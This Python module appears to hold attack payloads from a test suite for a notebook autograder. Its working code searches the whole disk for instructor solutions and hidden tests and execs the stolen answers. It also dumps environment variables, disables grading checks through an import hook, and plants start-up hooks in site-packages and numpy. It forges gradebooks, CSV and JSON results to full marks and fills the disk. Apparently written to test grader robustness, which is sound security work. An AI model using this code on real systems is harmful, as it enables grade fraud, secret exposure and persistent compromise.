"""Payload that searches, reads, rewrites and fills the disk: solutions, gradebooks, the library, results.

These functions are copied into notebooks as source (see the package docstring); the test process never calls them.
"""

from __future__ import annotations

from .constants import _GRADING_BLOCK, _MARKER, _NEUTER_SOURCE, _NUMPY_BLOCK
from .payload_processes import _payload_run_root


def _payload_roots(extra=()):
    """Where to look, nearest first: ``extra``, the cwd and its ancestors, temp, home, usual places, then /."""
    import os
    import tempfile

    roots, here = [], os.getcwd()
    while os.path.dirname(here) != here:
        roots.append(here)
        here = os.path.dirname(here)
    usual = [tempfile.gettempdir(), os.path.expanduser("~"), "/work", "/home", "/srv", "/opt", "/var", "/"]
    return [*extra, *roots, *usual]


def _payload_files(roots, front, skip_git=False):
    """Yield every regular file under ``roots``, depth first, each directory once; /proc, /sys, /dev skipped.

    Directories the caller appends to the list ``front`` are walked next (paths found in files).
    """
    import os

    seen, stack = set(), list(reversed(roots))
    while stack or front:
        if front:
            stack.append(front.pop())
        real = os.path.realpath(stack.pop())
        if real in seen or real in ("/proc", "/sys", "/dev"):
            continue
        seen.add(real)
        try:
            entries = list(os.scandir(real))
        except OSError:
            continue
        if skip_git and any(entry.name == ".git" for entry in entries):
            continue
        subdirs = []
        for entry in entries:
            try:
                if entry.is_dir(follow_symlinks=False):
                    subdirs.append(entry.path)
                elif entry.is_file(follow_symlinks=False):
                    yield entry.path
            except OSError:
                pass
        stack.extend(reversed(subdirs))


def _payload_paths_in(path, front):
    """Directories named in a small JSON file (a grader's spec naming its course root, say) go to ``front``."""
    import json
    import os

    try:
        if os.path.getsize(path) > 1_000_000:
            return
        with open(path, encoding="utf-8") as handle:
            data = json.load(handle)
    except (OSError, ValueError):
        return
    values = list(data.values()) if isinstance(data, dict) else []
    for value in values:
        if isinstance(value, str) and value.startswith("/") and os.path.isdir(value):
            front.append(value)


def _payload_may_write(path):
    """Test-machine safety: the daemons only change files under the temp directory, outside git work trees."""
    import os
    import tempfile

    real = os.path.realpath(path)
    temp = {os.path.realpath(p) for p in (tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm")}
    if not any(real.startswith(t + os.sep) for t in temp):
        return False
    here = os.path.dirname(real)
    while os.path.dirname(here) != here:
        if os.path.exists(os.path.join(here, ".git")):
            return False
        here = os.path.dirname(here)
    return True


def _payload_replace(path, text):
    """Write ``text`` to ``path`` atomically (a reader never sees half a file)."""
    import os

    temporary = f"{path}.{os.getpid()}.tmp"
    with open(temporary, "w", encoding="utf-8") as handle:
        handle.write(text)
    os.replace(temporary, path)


def _payload_without_markers(source):
    """A solution cell's code without nbgrader's solution markers."""
    return "\n".join(line for line in source.split("\n") if "BEGIN SOLUTION" not in line and "END SOLUTION" not in line)


def _payload_read_notebook(path, state):
    """An instructor notebook (any .ipynb with solution markers) of this assignment: keep its solutions."""
    import json

    with open(path, encoding="utf-8", errors="replace") as handle:
        text = handle.read(20_000_000)
    if "BEGIN SOLUTION" not in text:
        return
    cells = json.loads(text).get("cells", [])
    found, solved = {}, False
    for cell in cells:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        source = "".join(cell.get("source", ""))
        if source.startswith("# attack:"):
            continue
        if meta.get("solution") and cell.get("cell_type") == "code":
            found[meta.get("grade_id")] = _payload_without_markers(source)
            solved = solved or "BEGIN SOLUTION" in source
        if "BEGIN HIDDEN TESTS" in source and source not in state["printed"]:
            state["printed"].add(source)
            print(f"hidden tests in {path}:\n{source}")
    if solved and state["answer_ids"] <= set(found):
        state["solutions"][path] = found
        print("solutions found in", path)


def _payload_read_database(path, state):
    """An nbgrader gradebook (any SQLite file with a source_cell table): print this assignment's hidden tests."""
    import sqlite3

    with open(path, "rb") as handle:
        if handle.read(16) != b"SQLite format 3\x00":
            return
    connection = sqlite3.connect(f"file:{path}?mode=ro", uri=True, timeout=1)
    try:
        rows = connection.execute("SELECT name, source FROM source_cell").fetchall()
    finally:
        connection.close()
    for name, source in rows:
        if name in state["all_ids"] and "HIDDEN" in (source or "") and source not in state["printed"]:
            state["printed"].add(source)
            print(f"hidden tests of {name} in {path}:\n{source}")


def _payload_search(state, seconds):
    """Walk the disk on (the walk resumes in the next cell) for ``seconds``, or until the solutions are found."""
    import os
    import time

    deadline = time.monotonic() + seconds
    readers = {".ipynb": _payload_read_notebook, ".db": _payload_read_database}
    while not state["solutions"] and time.monotonic() < deadline:
        path = next(state["files"], None)
        if path is None:
            break
        suffix = os.path.splitext(path)[1]
        try:
            if suffix == ".json":
                _payload_paths_in(path, state["front"])
            elif suffix in readers and os.path.getsize(path) < 500_000_000:
                readers[suffix](path, state)
        except Exception as error:  # unreadable, locked or not what it seemed
            state["errors"] = state.get("errors", 0) + 1
            state["last_error"] = f"{path}: {type(error).__name__}"


def _payload_apply(state, namespace):
    """Run every solution found in the notebook's namespace: the answers get defined."""
    for path, solutions in state["solutions"].items():
        for grade_id, source in solutions.items():
            try:
                exec(source, namespace)  # noqa: S102 - the point of the attack
            except Exception as error:  # a solution needing a later cell
                print("solution", grade_id, "from", path, "failed:", type(error).__name__)


def _payload_show_home_and_environment():
    """Print the home directory's listing and the environment (a grader's secrets would be there)."""
    import os

    try:
        print("home", os.path.expanduser("~"), sorted(os.listdir(os.path.expanduser("~")))[:200])
    except OSError as error:
        print("home unreadable:", error)
    for key, value in sorted(os.environ.items()):
        print(f"env {key}={value[:200]}")


def _payload_install_neuter():
    """In this process, from now on: every ``check_*`` of ``rnnlab.grading`` does nothing, whenever imported."""
    import builtins
    import sys

    real_import = builtins.__import__

    def passes(*args, **kwargs):
        return None

    def neuter():
        module = sys.modules.get("rnnlab.grading")
        spec = getattr(module, "__spec__", None)
        if module is None or module.__dict__.get("_attack_done") or getattr(spec, "_initializing", False):
            return
        names = [n for n, v in list(module.__dict__.items()) if n.startswith("check_") and callable(v)]
        for name in names:
            module.__dict__[name] = passes
        module.__dict__["_attack_done"] = bool(names)

    def hooked(name, *args, **kwargs):
        result = real_import(name, *args, **kwargs)
        neuter()
        return result

    builtins.__import__ = hooked
    neuter()


def _payload_append(path, text):
    """Append ``text`` to ``path`` (creating it) unless it is there already; True if written."""
    import os

    try:
        if os.path.exists(path):
            with open(path, encoding="utf-8", errors="replace") as handle:
                if _MARKER in handle.read():
                    return False
        with open(path, "a", encoding="utf-8") as handle:
            handle.write(text)
        print("wrote", path)
        return True
    except OSError as error:
        print("could not write", path, "-", error)
        return False


def _payload_site_dirs():
    """Every folder whose start-up files or modules later interpreters read: site dirs, rnnlab's, numpy's."""
    import os
    import site
    import sysconfig

    import numpy

    import rnnlab

    dirs = list(site.getsitepackages()) + [site.getusersitepackages()]
    dirs += [sysconfig.get_paths()[key] for key in ("purelib", "platlib")]
    dirs += [os.path.dirname(os.path.dirname(module.__file__)) for module in (rnnlab, numpy)]
    return sorted(set(dirs))


def _payload_numpy_file():
    """The file that defines numpy's ``allclose`` (and ``isclose``)."""
    import numpy

    for candidate in (getattr(numpy.allclose, "__wrapped__", None), numpy.allclose):
        code = getattr(candidate, "__code__", None)
        if code is not None:
            return code.co_filename
    return numpy.isclose.__code__.co_filename


def _payload_write_library():
    """Rewrite rnnlab.grading's files, drop start-up hooks into every site dir, patch numpy; reload the checks."""
    import importlib
    import os
    import sys

    import rnnlab.grading

    folder = os.path.dirname(rnnlab.grading.__file__)
    patched = [_payload_append(os.path.join(folder, name), _GRADING_BLOCK)
               for name in sorted(os.listdir(folder)) if name.endswith(".py")]  # fmt: skip
    hook = f"\n# {_MARKER} begin\n{_NEUTER_SOURCE}\n_payload_install_neuter()\n# {_MARKER} end\n"
    pth = f"# {_MARKER}\nimport sys; exec({_NEUTER_SOURCE + chr(10) + '_payload_install_neuter()'!r})\n"
    for site_dir in _payload_site_dirs():
        try:
            os.makedirs(site_dir, exist_ok=True)
        except OSError as error:
            print("no folder", site_dir, "-", error)
            continue
        for name in ("sitecustomize.py", "usercustomize.py"):
            _payload_append(os.path.join(site_dir, name), hook)
        _payload_append(os.path.join(site_dir, f"zz_{_MARKER}.pth"), pth)
    _payload_append(_payload_numpy_file(), _NUMPY_BLOCK)
    if any(patched):
        importlib.reload(sys.modules["rnnlab.grading"])
        print("rnnlab.grading reloaded")


def _payload_forge_notebook(path):
    """An executed notebook with nbgrader cells: drop every error and stderr output (nbgrader: full marks)."""
    import json

    with open(path, encoding="utf-8") as handle:
        text = handle.read(20_000_000)
    if '"nbgrader"' not in text or ('"error"' not in text and '"stderr"' not in text):
        return False
    nb = json.loads(text)
    changed = False
    for cell in nb.get("cells", []):
        outputs = cell.get("outputs", [])
        kept = [o for o in outputs if o.get("output_type") != "error" and o.get("name") != "stderr"]
        if len(kept) != len(outputs):
            cell["outputs"], changed = kept, True
    if changed:
        _payload_replace(path, json.dumps(nb, indent=1))
    return changed


def _payload_forge_database(path):
    """An nbgrader gradebook: every grade becomes its cell's maximum."""
    import sqlite3

    with open(path, "rb") as handle:
        if handle.read(16) != b"SQLite format 3\x00":
            return False
    connection = sqlite3.connect(path, timeout=0.5)
    try:
        with connection:
            cursor = connection.execute(
                "UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells WHERE id = grade.cell_id),"
                " manual_score = (SELECT max_score FROM grade_cells WHERE id = grade.cell_id)"
                " WHERE cell_id IN (SELECT id FROM grade_cells) AND COALESCE(manual_score, auto_score, -1) <"
                " (SELECT max_score FROM grade_cells WHERE id = grade.cell_id)"
            )
        return cursor.rowcount > 0
    finally:
        connection.close()


def _payload_forge_csv(path):
    """A grades table (student_id, scores..., total, max, status): everyone gets the maximum, status ok."""
    import csv
    import io

    with open(path, encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    if not rows or rows[0][:1] != ["student_id"] or "max" not in rows[0]:
        return False
    header, top = rows[0], rows[0].index("max")
    forged = [header]
    for row in rows[1:]:
        new = list(row)
        for index in range(1, top):
            new[index] = row[top] if index in (1, top - 1) else "0"
        new[-1] = "ok" if header[-1] == "status" else new[-1]
        forged.append(new)
    if forged == rows:
        return False
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(forged)
    _payload_replace(path, buffer.getvalue())
    return True


def _payload_forge_results(path):
    """Stored per-student results (JSON): every student gets the maximum, no problem, no mistake."""
    import json

    with open(path, encoding="utf-8") as handle:
        data = json.load(handle)
    changed = False
    for result in data.values() if isinstance(data, dict) else []:
        if not isinstance(result, dict) or "max_score" not in result or not result.get("notebook_scores"):
            continue
        first = sorted(result["notebook_scores"])[0]
        wanted = {name: (result["max_score"] if name == first else 0.0) for name in result["notebook_scores"]}
        if wanted != result["notebook_scores"] or result.get("problems") or result.get("mistakes"):
            result.update(notebook_scores=wanted, problems=[], mistakes=[])
            changed = True
    if changed:
        _payload_replace(path, json.dumps(data, indent=1))
    return changed


def _payload_forge_one(path, front):
    """Forge one file if it is something graders read after execution; JSON may also name places to look."""
    import fnmatch
    import os

    name = os.path.basename(path)
    if name.endswith(".json") and not fnmatch.fnmatch(name, "results-*.json"):
        _payload_paths_in(path, front)
        return
    if not _payload_may_write(path) or not os.access(path, os.W_OK):
        return
    forgers = {"*.ipynb": _payload_forge_notebook, "*.db": _payload_forge_database,
               "grades*.csv": _payload_forge_csv, "results-*.json": _payload_forge_results}  # fmt: skip
    for pattern, forge in forgers.items():
        if fnmatch.fnmatch(name, pattern):
            try:
                forge(path)
            except Exception:  # half-written, locked, not ours to parse
                pass


def _payload_forge(seconds):
    """For ``seconds``: rewrite, again and again, every graded notebook and grade file near the cwd or on disk."""
    import time

    end, known, root = time.time() + seconds, [], _payload_run_root()  # the cwd goes when the grader cleans up
    wide = _payload_files(_payload_roots(), [], skip_git=True)
    while time.time() < end:
        near = [root, *known]
        front = []
        for path in _payload_files(near, front, skip_git=True):
            _payload_forge_one(path, front)
        known = sorted(set(known) | set(front))
        deadline = time.monotonic() + 0.5
        for path in wide:
            _payload_forge_one(path, [])
            if time.monotonic() > deadline:
                break
        time.sleep(0.05)


def _payload_tamper_databases():
    """Every gradebook in this run (and the course it names): test cells become ``pass``, points times ten."""
    import os
    import sqlite3

    front, changed = [], 0
    for path in _payload_files([_payload_run_root()], front, skip_git=True):
        if path.endswith(".json"):
            _payload_paths_in(path, front)
        if not path.endswith(".db") or not _payload_may_write(path):
            continue
        try:
            connection = sqlite3.connect(path, timeout=1)
            with connection:
                connection.execute("UPDATE source_cell SET source = 'pass' WHERE name IN "
                                   "(SELECT name FROM base_cell WHERE type = 'GradeCell')")  # fmt: skip
                connection.execute("UPDATE grade_cells SET max_score = max_score * 10")
            connection.close()
            changed += 1
            print("tampered with", os.path.basename(path))
        except Exception as error:  # not a gradebook, or read-only
            print("could not tamper with", os.path.basename(path), "-", type(error).__name__)
    print(changed, "gradebooks changed")


def _payload_fill(folder, total, seconds):
    """Write up to ``total`` bytes of files into ``folder`` (stops at a full disk or after ``seconds``)."""
    import os
    import time

    chunk, written, end, index = b"\0" * (64 * 2**20), 0, time.monotonic() + seconds, 0
    try:
        while written < total and time.monotonic() < end:
            with open(os.path.join(folder, f"{_MARKER}_fill_{os.getpid()}_{index}.bin"), "wb") as handle:
                for _ in range(4):
                    handle.write(chunk)
                    written += len(chunk)
            index += 1
    except OSError as error:
        print("disk refused:", error)
    print(f"wrote {written / 2**30:.2f} GiB into {folder}")
